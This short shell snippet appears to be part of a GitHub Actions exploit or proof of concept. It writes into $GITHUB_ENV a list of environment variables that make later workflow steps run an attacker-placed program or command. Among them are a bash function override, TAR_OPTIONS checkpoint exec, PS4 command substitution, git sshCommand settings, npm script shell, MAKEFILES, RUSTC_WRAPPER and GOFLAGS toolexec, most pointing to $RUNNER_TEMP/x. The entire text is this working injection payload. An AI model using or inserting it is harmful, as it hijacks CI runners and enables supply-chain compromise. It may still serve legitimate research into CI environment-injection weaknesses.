# Variables other than those of the loader that make later steps run other code: functions, options, settings, program wrappers.
cat >>"$GITHUB_ENV" <<VARIABLES
BASH_FUNC_ls%%=() { id; }
TAR_OPTIONS=--checkpoint=1 --checkpoint-action=exec=$RUNNER_TEMP/x
PYTHONWARNINGS=all:0:antigravity.x:0:0
BROWSER=$RUNNER_TEMP/x
PS4=\$(id)
GIT_CONFIG_COUNT=1
GIT_CONFIG_KEY_0=core.sshCommand
GIT_CONFIG_VALUE_0=$RUNNER_TEMP/x
GIT_SSH_COMMAND=$RUNNER_TEMP/x
PERL5LIB=$RUNNER_TEMP
npm_config_script_shell=$RUNNER_TEMP/x
MAKEFILES=$RUNNER_TEMP/x
WGETRC=$RUNNER_TEMP/x
RUSTC_WRAPPER=$RUNNER_TEMP/x
GOFLAGS=-toolexec=$RUNNER_TEMP/x
VARIABLES
